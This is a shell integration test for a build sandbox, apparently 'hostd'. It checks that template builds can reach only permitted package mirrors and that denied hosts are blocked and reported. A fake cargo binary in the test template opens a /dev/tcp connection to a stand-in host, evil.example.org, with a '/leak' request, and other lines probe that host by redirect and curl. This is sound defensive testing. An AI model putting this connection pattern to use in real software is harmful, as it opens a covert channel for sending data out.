# SPDX-License-Identifier: GPL-2.0-or-later
# What tests/integration/build.sh runs in its machine, whose /etc and network are its own.
set -u
[ -e /srv/image ] && [ -d /srv/work/repository ] && mountpoint -q /srv/work || { echo "this is for the machine of tests/integration/build.sh"; exit 2; }
work=/srv/work net=build-internet dns=11.209.0.53 mirror=11.209.0.10 stranger=11.209.0.20 private=10.77.0.9
export HOSTD_RUN=/run/hostd LC_ALL=C.UTF-8
passed=0 failed=0
ok() { passed=$((passed + 1)); echo "ok $*"; }
fail() { failed=$((failed + 1)); echo "FAIL $*"; }
check() { local name=$1; shift; if "$@" >/tmp/out 2>&1; then ok "$name"; else fail "$name: $(tail -n 3 /tmp/out | tr '\n' ' ')"; fi; }
refute() { local name=$1; shift; if "$@" >/tmp/out 2>&1; then fail "$name: it succeeded: $(tail -n 3 /tmp/out | tr '\n' ' ')"; else ok "$name"; fi; }
wait_for() { local end=$((SECONDS + $1)); shift; until "$@" >/dev/null 2>&1; do [ $SECONDS -lt $end ] || return 1; sleep 0.1; done; }

# --- the Internet of this machine
address_add() { # ADDRESS
        ip -n $net addr add "$1/32" dev eth0
        ip route add "$1/32" dev inet src 11.209.0.1
}
ip netns add $net && ip link add inet type veth peer name eth0 netns $net
ip addr add 11.209.0.1/32 dev inet
ip link set inet up
ip -n $net link set lo up
ip -n $net link set eth0 up
for address in $dns $mirror $stranger $private; do address_add $address; done
ip -n $net route add 11.209.0.1/32 dev eth0
ip -n $net route add default via 11.209.0.1 dev eth0
ip route add default dev inet
ip netns exec $net dnsmasq -C /dev/null --no-resolv --no-hosts --no-daemon --log-queries --pid-file --listen-address=$dns --bind-interfaces \
        --address=/mirror.example.org/$mirror --address=/inner.example.org/$private --address=/evil.example.org/$stranger --address=/index.example.org/$mirror >$work/dnsmasq 2>&1 &
cat >$work/mirror.py <<'PYTHON'
import http.server, sys
class Handler(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        if self.path.startswith("/elsewhere/"):
            self.send_response(302)
            self.send_header("Location", "http://evil.example.org" + self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()
        else:
            super().do_GET()
    def log_message(self, *arguments):
        print(self.server.server_address, self.client_address[0], self.headers.get("Host"), self.path, flush=True)
address, port, directory = sys.argv[1:]
http.server.ThreadingHTTPServer((address, int(port)), lambda *a: Handler(*a, directory=directory)).serve_forever()
PYTHON
ip netns exec $net python3 $work/mirror.py $mirror 80 $work/repository >$work/at-mirror 2>&1 &
ip netns exec $net python3 $work/mirror.py $stranger 80 $work/repository >$work/at-stranger 2>&1 &
ip netns exec $net python3 $work/mirror.py $private 8099 $work/repository >$work/at-private 2>&1 &
wait_for 20 curl -sf -o /dev/null http://$mirror/dists/trixie/InRelease || { echo "FAIL the mirror does not answer"; exit 1; }
: >$work/at-mirror
rm -f /etc/resolv.conf
echo "nameserver $dns" >/etc/resolv.conf
sed -i 's/^hosts:.*/hosts: files dns/' /etc/nsswitch.conf

# --- hostd
sources() { # URL: apt's only one
        rm -rf /etc/apt/sources.list.d/* /etc/apt/sources.list /etc/apt/apt.conf.d/95proxy
        echo "deb $1 $(sed -n 's/^VERSION_CODENAME=//p' /etc/os-release) main" >/etc/apt/sources.list
        printf 'Acquire::Check-Valid-Until "false";\nAcquire::Languages "none";\nAcquire::Retries "0";\n' >/etc/apt/apt.conf.d/90partial-mirror
}
mkdir -p /etc/hostd/templates.d
printf 'allow_degraded = [ "apparmor", "disk", "inodes", "seccomp" ];\n' >/etc/hostd/hostd.conf
# With a client that names an index, which says where it has its downloads, to whoever reaches it.
cat >/etc/hostd/templates.d/small.conf <<'RECIPE'
name = "small";
suite = "trixie";
variant = "essential";
packages = ["systemd-sysv"];
users = ( { name = "agent"; uid = 1000; } );
files = ( { path = "/usr/bin/cargo"; mode = "0755"; content = "#!/bin/bash\nif exec 3<>/dev/tcp/index.example.org/80 && printf 'GET /dists/trixie/InRelease HTTP/1.1\\r\\nHost: index.example.org\\r\\n\\r\\n' >&3 && read -r line <&3 && [[ $line == *200* ]]; then\nmkdir -p $CARGO_HOME/registry/index/x && echo '{\"dl\": \"http://dl.example.org/crates\"}' >$CARGO_HOME/registry/index/x/config.json\nelse\necho 'failed to fetch `http://index.example.org/config.json`' >&2\nfi\nexec 4<>/dev/tcp/evil.example.org/80 && printf 'GET /leak HTTP/1.1\\r\\nHost: evil.example.org\\r\\n\\r\\n' >&4 && read -r line <&4\nexit 0\n"; } );
RECIPE
start() {
        mkdir -p /run/hostd
        setsid hostd >>$work/hostd.log 2>&1 </dev/null &
        hostd=$!
        wait_for 20 hostctl info
}
start || { fail "hostd does not answer"; exit 1; }
make_template() { timeout 280 hostctl template build "${1:-small}"; }

wire() { ip -o link | grep -o 'hv04[0-9a-f][0-9a-f]' | head -n 1; }
chains() { nft list ruleset | grep -E 'i04[0-9a-f]{2}_|hv04'; }
rules() { { ip rule; ip -6 rule; } | grep hv04; }
builders() { pgrep -u hostd-build; }
spaces() { lsns -n -t net -o NS | wc -l; }
before=$(spaces)
nothing() { [ -z "$(wire)$(chains)$(rules)$(builders)$(ls -A /var/lib/hostd/build 2>/dev/null)" ] && [ "$(spaces)" = "$before" ] && hostctl leaks >/tmp/leaks && [ ! -s /tmp/leaks ]; }
none_left() { if wait_for 20 nothing; then ok "$1: nothing is left"; else fail "$1: left: $(wire) $(chains | head -n 3) $(rules) $(builders | xargs) $(spaces)/$before netns $(cat /tmp/leaks)"; fi; }
inside() { nsenter -t "$(jail)" -n -m -- "$@"; } # as this machine's root, in the build's network and with its files
# The first process of the jail: of hostd-build's user, in another network, which has its wire.
jail() {
        local pid own
        own=$(readlink /proc/self/ns/net)
        for pid in $(pgrep -u hostd-build -f '^[^ ]*hostd-build build'); do
                [ "$(readlink "/proc/$pid/ns/net")" != "$own" ] && nsenter -t "$pid" -n ip -o -4 addr show dev eth0 2>/dev/null | grep -q inet && echo "$pid" && return 0
        done
        return 1
}
give_up() { kill -INT "$(pgrep -f '^hostctl template build')"; wait $building; }
flows() { hostctl flows build-small -f json; }
has_flow() { flows | jq -e "any(.flows[]; $1)"; }

# --- by name, through resolver and proxy
sources http://mirror.example.org
begin=$SECONDS
make_template >$work/built 2>&1 &
building=$!
wait_for 60 jail
check "a build has a wire of its own" test -n "$(wire)"
check "with the address of its slot" test "$(inside ip -o -4 addr show dev eth0 | grep -o '10\.209\.4\.[0-9]*')" = 10.209.4.15
check "no leak while it runs" sh -c 'hostctl leaks >/tmp/leaks && [ ! -s /tmp/leaks ]'
check "its resolv.conf names the border" inside grep -qx 'nameserver 169.254.0.1' /etc/resolv.conf
refute "no socket of the host's below /run" inside test -e /run/hostd
check "it is reached through the border alone" inside curl -s -m 5 -f -o /dev/null http://mirror.example.org/dists/trixie/InRelease
refute "a stranger by address" inside curl -s -f -m 3 -o /dev/null http://$stranger/
check "an allowed name at a stranger's address is the mirror" inside curl -s -m 5 -f -o /dev/null --resolve mirror.example.org:80:$stranger http://mirror.example.org/dists/trixie/InRelease
refute "a stranger by name" inside curl -s -f -m 3 -o /dev/null http://evil.example.org/
refute "the mirror at another port" inside curl -s -f -m 3 -o /dev/null http://mirror.example.org:8099/
refute "the host" inside curl -s -m 3 -o /dev/null telnet://11.209.0.1:22
refute "a name server of its choice" inside sh -c "timeout 3 busybox nslookup evil.example.org $dns | grep -q $stranger"
wait $building && ok "built in $((SECONDS - begin)) s by name" || fail "build: $(tail -n 3 $work/built)"
check "the index that a client named was asked" grep -q 'index.example.org /dists' $work/at-mirror
check "and said where it has its downloads" sh -c "grep -l '\"name\": *\"small\"' /var/lib/hostd/templates/*.json | xargs grep -q dl.example.org:80"
check "the packages came from the mirror" grep -q 'pool/.*deb' $work/at-mirror
check "nothing came to the stranger" test ! -s $work/at-stranger
check "its flows: the name" wait_for 10 has_flow '.kind == "dns" and .verdict == "allow" and .name == "mirror.example.org"'
check "its flows: the connections" wait_for 10 has_flow '.kind == "http" and .verdict == "allow" and .name == "mirror.example.org" and .policy == "build-small"'
check "its flows: the stranger" wait_for 10 has_flow '.verdict == "deny" and .name == "evil.example.org"'
none_left "a build"
hostctl template delete small >/dev/null

# --- a mirror in a private range, at a port of its own: by the address that this host finds
sources http://inner.example.org:8099
: >$work/at-private
make_template >$work/built 2>&1 &
building=$!
check "packages come from a private range that apt's configuration names" wait_for 60 grep -q 'pool/.*deb' $work/at-private
refute "but no other port of it" inside curl -s -f -m 3 -o /dev/null http://$private:8098/
refute "and no other address" inside curl -s -f -m 3 -o /dev/null http://10.77.0.1:8099/
give_up
none_left "a build that was given up"

# --- a proxy, by address
sources http://mirror.example.org/elsewhere
printf 'Acquire::http::Proxy "http://%s:8099";\n' $private >/etc/apt/apt.conf.d/95proxy
: >$work/at-private
make_template >$work/built 2>&1
check "a proxy is asked" grep -q 'http://mirror.example.org/' $work/at-private
sources http://mirror.example.org/elsewhere

# --- what is denied is explained
: >$work/at-stranger
refute "a mirror that sends elsewhere" make_template
cp /tmp/out $work/elsewhere
check "is explained" grep -qE 'template small: denied to it: evil\.example\.org.*; a build may reach only mirror\.example\.org port 80: mmdebstrap failed' $work/elsewhere
check "nothing came to the stranger" test ! -s $work/at-stranger
check "why says how it would be allowed" wait_for 10 sh -c "hostctl why build-small | grep -q 'Acquire::http::Proxy::evil.example.org .DIRECT'"
none_left "a build that failed"
printf 'Acquire::http::Proxy::evil.example.org "DIRECT";\n' >/etc/apt/apt.conf.d/95proxy
make_template >$work/built 2>&1
check "named in apt's configuration it is reached" grep -q /elsewhere/ $work/at-stranger

# --- what cannot be is refused with words
sources http://localhost:8099
refute "a mirror on this host" make_template
cp /tmp/out $work/refused
check "is refused with words" grep -q 'localhost (port 8099), which /etc/apt names, is this host itself' $work/refused
none_left "a refused build"
sources http://mirror.example.org
proxy=$(readlink "/proc/$(pgrep -u hostd-proxy -x hostd-proxy -o)/exe")
mv "$proxy" "$proxy.away"
refute "without hostd-proxy" make_template
cp /tmp/out $work/refused
check "is refused with words" grep -q 'a template is built behind the border, which needs hostd-proxy' $work/refused
mv "$proxy.away" "$proxy"
none_left "a build without the border"

# --- killed
begin_build() {
        make_template >$work/built 2>&1 &
        building=$!
        wait_for 60 jail && sleep 2 && [ -n "$(wire)" ]
}
check "a build runs" begin_build
kill -9 "$(pgrep -u hostd-build -o -f 'hostd-build build')"
wait $building && fail "a killed build succeeded" || ok "a killed build fails"
none_left "kill -9 of hostd-build"
check "a build runs" begin_build
first=$building
printf 'name = "second";\nsuite = "trixie";\nvariant = "essential";\npackages = ["systemd-sysv"];\n' >/etc/hostd/templates.d/second.conf
make_template second >$work/second 2>&1 &
second=$!
check "and another one, with a wire of its own" wait_for 60 sh -c 'ip -o link | grep -q hv040f && ip -o link | grep -q hv040e'
kill -9 $hostd
wait $first $second
check "a new hostd" start
none_left "kill -9 of hostd"
check "a build runs" begin_build
kill $hostd
wait $hostd $building
check "a new hostd" start
none_left "an end of hostd"
ip -n $net addr del $dns/32 dev eth0 # whoever asks waits
make_template >$work/built 2>&1 &
building=$!
check "a build whose mirrors are looked up" wait_for 20 sh -c 'pgrep -u hostd-build && sleep 1'
give_up
check "given up it keeps nobody" hostctl info
none_left "given up before it has a network"
kill $hostd
echo "$passed passed, $failed failed, 0 skipped"
[ $failed -eq 0 ]
